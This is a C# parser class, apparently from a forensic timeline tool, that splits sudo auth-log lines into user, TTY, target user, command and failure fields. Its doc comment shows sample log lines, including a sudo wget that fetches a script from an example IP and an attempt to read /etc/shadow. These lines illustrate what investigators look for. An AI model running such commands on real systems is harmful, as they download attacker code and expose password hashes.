using Timeline.Core.Vocabulary;
using Timeline.Core.Events;
using Timeline.Parsers.Linux.Syslog;

namespace Timeline.Parsers.Linux.Auth;

/// <summary>
/// sudo's log line: <c>&lt;user&gt; : [&lt;problem&gt; ; ]TTY=… ; PWD=… ; USER=… [; GROUP=…] [; ENV=…] ; COMMAND=…</c>.
/// <c>COMMAND=</c> is last and runs to the end of the line (it may itself contain " ; ").
/// <code>
/// sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget http://198.51.100.9/x.sh
/// sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash
/// sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow
/// </code>
/// </summary>
public sealed class SudoGrammar : ISyslogMessageGrammar
{
    public string Name => "sudo";
    public string EventParser => AuthEvents.ParserName;
    public IReadOnlyList<string> Programs => ["sudo"];
    public IReadOnlyList<string> MessagePrefixes => [];

    public void Read(ReadOnlySpan<char> message, FieldSet fields)
    {
        var m = message.Trim(' ');
        var sep = m.IndexOf(" : ");
        if (sep <= 0)
        {
            fields.Set(FieldNames.Event, AuthEvents.Other);
            return;
        }
        fields.Set(FieldNames.User, m[..sep].Trim(' ').ToString());
        var rest = m[(sep + 3)..];
        // Long commands are split over lines: "alice : (command continued) …rest of the command"
        if (rest.StartsWith("(command continued) ", StringComparison.Ordinal))
        {
            fields.Set(FieldNames.Event, AuthEvents.Sudo);
            fields.Set(FieldNames.Command, rest[20..].ToString());
            return;
        }
        var failed = false;
        var any = false;
        while (!rest.IsEmpty)
        {
            if (rest.StartsWith("COMMAND=", StringComparison.Ordinal))
            {
                fields.Set(FieldNames.Command, rest[8..].ToString());
                any = true;
                break;
            }
            var end = rest.IndexOf(" ; ");
            var part = end < 0 ? rest : rest[..end];
            rest = end < 0 ? [] : rest[(end + 3)..];
            if (part.StartsWith("TTY=", StringComparison.Ordinal)) fields.Set(FieldNames.Tty, part[4..].ToString());
            else if (part.StartsWith("PWD=", StringComparison.Ordinal)) fields.Set(FieldNames.Pwd, part[4..].ToString());
            else if (part.StartsWith("USER=", StringComparison.Ordinal)) fields.Set(FieldNames.TargetUser, part[5..].ToString());
            else if (part.StartsWith("GROUP=", StringComparison.Ordinal)) fields.Set(FieldNames.TargetGroup, part[6..].ToString());
            else if (part.Contains('=')) { }
            else
            {
                // "3 incorrect password attempts", "user NOT in sudoers", "command not allowed", "a password is required"
                failed = true;
                fields.Set(FieldNames.Reason, part.ToString());
                var space = part.IndexOf(' ');
                if (space > 0 && part[(space + 1)..].StartsWith("incorrect password attempt", StringComparison.Ordinal))
                    fields.Set(FieldNames.Count, part[..space].ToString());
            }
            any = true;
        }
        fields.Set(FieldNames.Event, !any ? AuthEvents.Other : failed ? AuthEvents.SudoFailed : AuthEvents.Sudo);
    }
}
